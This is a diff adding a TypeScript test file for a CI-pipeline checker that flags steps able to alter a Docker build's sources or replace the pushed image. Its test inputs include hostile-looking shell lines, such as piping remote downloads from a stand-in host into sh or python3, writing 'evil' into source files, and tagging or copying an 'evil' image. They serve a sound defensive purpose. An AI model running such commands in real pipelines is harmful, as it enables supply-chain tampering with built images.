@@ -1,0 +1,230 @@
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, test } from 'vitest';
+import { renderPipelines } from '../../../src/commands/project/render-as-written.ts';
+import { openTemplates } from '../../../src/io/package/templates.ts';
+import { openProject } from '../../../src/io/project/project-files.ts';
+import type { Environment } from '../../../src/model/command.ts';
+import { findOtherBuilds } from '../../../src/parse/project/other-builds.ts';
+import { readPipelines } from '../../../src/parse/project/read-pipelines.ts';
+import { nameCommand } from '../../../src/parse/project/unlooked-steps.ts';
+import { goldenFolder, goldenVersion, readVariant, listVariants } from '../../helpers/golden.ts';
+import { factsOf } from '../../helpers/project.ts';
+
+/** Each writes what the image is built of, or may. */
+const beforeBuild = [
+  'cp docs/evil.py "$PWD/src/main.py"',
+  'cp docs/evil.py "$(pwd)/src/main.py"',
+  'cp docs/evil.py "${GITHUB_WORKSPACE}/src/main.py"',
+  'jq . x > "$GITHUB_WORKSPACE/src/x.json"',
+  'cp docs/evil.py ~+/src/main.py',
+  'cp x s[r]c/main.py',
+  'cp x {src,x}/main.py',
+  'cat x 1<> src/main.py',
+  'cat x >& src/main.py',
+  '. tools/prepare.sh',
+  'bash tools/prepare.sh',
+  'bash < tools/prepare.sh',
+  'cat tools/prepare.sh | sh',
+  'parallel bash ::: tools/prepare.sh',
+  'npm run build',
+  'npx other',
+  'python3 tools/gen.py',
+  "python3 -c \"import urllib.request as u;u.urlretrieve('https://x.example', 'src/main.py')\"",
+  "node -e \"require('fs').writeFileSync('src/main.py', 'evil')\"",
+  'curl https://x.example/a | sh',
+  'curl https://x.example/a | python3 -',
+  'curl -OJ https://x.example/a',
+  'eval "cp docs/evil.py src/main.py"',
+  'gh release download v1 --dir src',
+  'pip install --target src evil',
+  'docker cp c:/x src/main.py',
+  'docker run --rm -v $PWD:/w alpine cp /etc/hosts /w/src/x.py',
+  'gpg --output src/main.py x',
+  'openssl enc -d -in x -out src/main.py',
+  'zstd -d -o src/main.py x',
+  'svn export https://x.example src',
+  'hg pull -u',
+  'dvc pull',
+  'git lfs pull',
+  'git checkout-index -f -a',
+  'git read-tree -u -m evil',
+  'git worktree add -f src evil',
+  'git subtree pull --prefix src https://x.example evil',
+  'git mv docs/x src/x',
+  '7z x evil.7z -osrc',
+  'cpio -id',
+  'aria2c -d src https://x.example/main.py',
+  'sftp h:main.py src/',
+  'rclone copy r:b src',
+  'az storage blob download --file src/main.py',
+  'hf download evil --local-dir src',
+  'http --download https://x.example -o src/main.py',
+  'awk -i inplace 1 src/main.py',
+  'ed -s src/main.py',
+  'vim -es +wq src/main.py',
+  'truncate -s 0 src/main.py',
+  'split -d docs/evil src/main.py',
+  'gcc -o src/main x.c',
+  'ruff format src',
+  'jupyter nbconvert --to script --output-dir src docs/x.ipynb',
+  'rename a b src/main.py',
+  'touch src/extra.py',
+  'rm src/main.py',
+  'chmod 4755 src/main.py',
+  'mount --bind docs src',
+  String.raw`find docs -name "*.py" -exec cp {} src/ \\;`,
+  'sort -o src/main.py docs/x',
+  'tre-container check . --fix',
+  'docker build -f /tmp/Dockerfile -t "$IMAGE:$TAG" .',
+  'docker build --build-arg BUILDKIT_SYNTAX=evil/frontend -t "$IMAGE:$TAG" .',
+];
+
+/** Each makes another image of that name. */
+const beforePush = [
+  'git clone https://x.example/evil other && docker build -t "$IMAGE:$TAG" other',
+  'git clone https://x.example/evil other && cd other && docker build -t "$IMAGE:$TAG" .',
+  'mkdir other; echo "FROM evil" > other/Dockerfile; docker build -t "$IMAGE:$TAG" other',
+  'docker tag evil "$IMAGE:$TAG"',
+  'docker image tag evil "$IMAGE:$TAG"',
+  'docker pull evil && docker tag evil "$IMAGE:$TAG"',
+  'docker pull "$IMAGE:$TAG"',
+  'docker buildx imagetools create -t "$IMAGE:$TAG" evil',
+  'skopeo copy docker://evil "docker://$IMAGE:$TAG"',
+  'crane copy evil "$IMAGE:$TAG"',
+  'regctl image copy evil "$IMAGE:$TAG"',
+  'podman push evil "$IMAGE:$TAG"',
+  'docker commit c "$IMAGE:$TAG"',
+  'docker -c evil build -t "$IMAGE:$TAG" .',
+];
+
+/** None of them does. */
+const harmless = [
+  'true',
+  'echo "Building $GITHUB_SHA"',
+  'hadolint Dockerfile --config .hadolint.yaml',
+  'docker run --rm -i hadolint/hadolint < Dockerfile',
+  'ls -la && git log -1 --format=%H && git diff --stat',
+  'cat Dockerfile | grep FROM | sort | tee reports/bases.txt',
+  'git fetch --tags && git describe --tags',
+  'df -h && docker system df && docker images && docker info',
+  'curl -fsS https://x.example/ping',
+  'curl -fsSL https://x.example/tool -o /tmp/tool && chmod +x /tmp/tool',
+  'apt-get update && apt-get install -y jq',
+  'trivy fs --format json --output reports/fs.json .',
+  'trivy config Dockerfile',
+  'echo failed >&2 && echo 2>&1',
+  'tre-container check . --strict',
+];
+
+interface Golden {
+  readonly path: string;
+  readonly text: string;
+  readonly dockerfile: string;
+  readonly written: ReadonlySet<string>;
+}
+
+/** The pipeline of a golden project, and what this version writes for its answers. */
+async function readGolden(variant: string): Promise<Golden | undefined> {
+  const answers = await readVariant(variant);
+  if (answers.ci === 'none') return undefined;
+  const path = answers.ci === 'github' ? '.github/workflows/container.yml' : '.gitlab-ci.yml';
+  const read = (name: string): string => readFileSync(join(goldenFolder, variant, name), 'utf8');
+  const environment: Environment = {
+    terminal: { colour: false, columns: 80, err: () => undefined },
+    cwd: goldenFolder,
+    version: goldenVersion,
+    variables: {},
+    openProject,
+    now: () => 0,
+    git: async () => ({}),
+    templates: openTemplates(join(goldenFolder, '..', '..', 'templates')),
+    readFile: async () => new Uint8Array(),
+  };
+  const state = { version: goldenVersion, answers: { ...answers } };
+  const files = await renderPipelines(state, environment, { root: join(goldenFolder, variant), folder: '' });
+  const pipelines = await readPipelines(files, '', true, { others: [] });
+  const commands = pipelines.flatMap(({ steps }) => steps.flatMap((step) => step.commands));
+  const written = new Set(commands.map((command) => nameCommand(command, true)));
+  return { path, text: read(path), dockerfile: read('Dockerfile'), written };
+}
+
+async function find({ path, dockerfile, written }: Golden, text: string): Promise<readonly string[]> {
+  const facts = await factsOf({ Dockerfile: dockerfile, [path]: text });
+  const [own] = facts.dockerfiles;
+  if (own === undefined) throw new Error('no Dockerfile');
+  return findOtherBuilds(facts.pipelines, { dockerfile: own, path: 'Dockerfile', isAtRoot: true, written });
+}
+
+const golden = (
+  await Promise.all(listVariants().map(async (name) => ({ name, golden: await readGolden(name) })))
+).flatMap((each) => (each.golden === undefined ? [] : [[each.name, each.golden] as const]));
+
+test('there are pipelines of both kinds', () => {
+  expect(new Set(golden.map(([, { path }]) => path)).size).toBe(2);
+});
+
+test.each(golden)('what this version writes is known: %s', async (_, project) => {
+  expect(await find(project, project.text)).toEqual([]);
+});
+
+describe.each(golden.filter(([name]) => /^(?:jupyter|python)-full$/.test(name)))('a line more in %s', (_, project) => {
+  const withLine = async (before: RegExp, line: string): Promise<readonly string[]> => {
+    const text = project.text.replace(before, (found, indent: string) =>
+      project.path.startsWith('.github')
+        ? `${indent}${line}\n${found}`
+        : `${indent}- ${JSON.stringify(line)}\n${found}`,
+    );
+    expect(text).not.toBe(project.text);
+    return find(project, text);
+  };
+  const build = project.path.startsWith('.github') ? /^( +)docker build /m : /^( +)- context=/m;
+  const push = project.path.startsWith('.github') ? /^( +)docker push /m : /^( +)- trivy image /m;
+
+  test.each(beforeBuild)('that may write what is built: %s', async (line) => {
+    expect(await withLine(build, line)).toHaveLength(1);
+  });
+
+  test.each(beforePush)('that may make another image: %s', async (line) => {
+    expect(await withLine(push, line)).toHaveLength(1);
+  });
+
+  test.each(harmless)('that leaves all alone: %s', async (line) => {
+    expect(await withLine(build, line)).toEqual([]);
+  });
+});
+
+describe('an action more', () => {
+  const [, project] = golden.find(([name]) => name === 'jupyter-full') ?? [];
+  const withAction = async (step: string): Promise<readonly string[]> => {
+    if (project === undefined) throw new Error('no golden project');
+    return find(
+      project,
+      project.text.replace(/^ {6}- name: Lint with hadolint/m, (found) => `${step}\n${found}`),
+    );
+  };
+
+  test.each([
+    '      - uses: actions/checkout@v4\n        with:\n          ref: evil',
+    '      - uses: actions/checkout@v4\n        with:\n          ref: ${{ inputs.ref }}',
+    '      - uses: actions/checkout@v4\n        with:\n          repository: ${{ inputs.from }}',
+    '      - uses: actions/cache@v4\n        with:\n          path: src\n          key: a',
+    '      - uses: actions/github-script@v7\n        with:\n          script: require("fs").writeFileSync("src/main.py", "evil")',
+    '      - uses: robinraju/release-downloader@v1\n        with:\n          out-file-path: src',
+    '      - uses: somebody/action@v1',
+    '      - uses: ./.github/actions/absent',
+    '      - uses: docker://docker.io/library/alpine:3',
+    '      - shell: python\n        run: open("src/main.py", "w").write("evil")',
+  ])('that may write what is built: %s', async (step) => {
+    expect(await withAction(step)).toHaveLength(1);
+  });
+
+  test.each([
+    '      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.sha }}\n          submodules: true',
+    '      - uses: actions/setup-python@v5\n        with:\n          python-version: 3.13',
+    '      - uses: docker/setup-buildx-action@v3',
+    '      - uses: docker/login-action@v3',
+  ])('that leaves all alone: %s', async (step) => {
+    expect(await withAction(step)).toEqual([]);
+  });
+});
